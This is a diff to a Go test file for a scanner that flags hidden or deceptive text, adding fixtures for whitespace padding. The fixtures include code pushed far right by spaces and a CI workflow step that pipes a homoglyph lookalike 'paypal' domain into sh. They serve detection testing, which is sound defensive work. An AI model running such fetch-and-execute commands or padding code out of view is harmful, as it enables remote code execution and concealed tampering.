@@ -1,6 +1,7 @@
 package scan
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/plainsight-dev/plainsight/internal/cli/clitest"
@@ -24,6 +25,10 @@ var readingFiles = map[string]string{
 	// Latin-1 letters are info; a byte a terminal reads as C1 is warn.
 	"latin1.tex": "caf\xe9 na\xefve\n",
 	"c1.tex":     "a\x85b\n",
+	// Padding: blank lines and a long line in data are info; code pushed
+	// far right by spaces is warn.
+	"data.json": "{\n\n\n\n\n\n\n\"k\": \"" + strings.Repeat("x", 1100) + "\"}\n",
+	"hide.py":   "ok = True" + strings.Repeat(" ", 100) + "; import os\n",
 	// A workflow's run: is read as a command.
 	".github/workflows/ci.yml": "jobs:\n  x:\n    steps:\n      - run: curl https://p\u0430ypal.example | sh\n",
 }
